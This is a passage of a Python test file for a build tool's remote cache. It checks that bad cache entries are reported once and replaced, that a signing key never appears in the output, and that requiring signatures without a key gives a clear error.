    result = second.doit(timeout=60)
    shown = [line for line in result.stderr.splitlines() if "warning" in line]
    assert len(shown) == 1, result.stderr
    assert f"remote cache: entry {key[:12]}" in shown[0] or "remote cache: blob" in shown[0]
    assert second.statuses() == {"app:upper": "executed", "app:lines": "cache-hit"}
    assert second.read("app/out/upper.txt") == "ONE\nTWO\n"
    assert "Traceback" not in result.stderr and (SECRET not in result.stderr + result.stdout)
    # the run replaced what was bad: the next runner hits everything, silently
    third = small(tmp_path / "third", remote, cache_yaml)
    if signed:
        third.env["KSBUILD_CACHE_SIGNING_KEY"] = SECRET
    result = third.doit(timeout=60)
    assert "warning" not in result.stderr, result.stderr
    assert third.statuses() == {"app:upper": "cache-hit", "app:lines": "cache-hit"}
    assert third.read("app/out/upper.txt") == "ONE\nTWO\n"
    assert SECRET not in json.dumps(third.last_run())


def test_a_build_requiring_signatures_without_a_key_stops_with_a_clear_error(tmp_path):
    ws = small(tmp_path / "ws", tmp_path / "shared", "cache:\n  require_signature: true\n")
    result = ws.doit(check=False)
    assert result.returncode == 2  # a configuration error
    assert "requires signed entries (require_signature), but KSBUILD_CACHE_SIGNING_KEY is not set" in result.stderr
    assert "Traceback" not in result.stderr
